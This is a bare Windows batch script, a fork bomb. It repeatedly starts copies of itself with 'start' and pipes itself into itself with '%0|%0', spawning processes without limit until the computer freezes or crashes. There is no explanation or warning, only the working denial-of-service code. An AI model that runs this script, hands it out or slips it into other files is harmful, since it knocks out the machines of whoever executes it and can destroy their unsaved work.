@echo off
:s
start "" %0
%0|%0
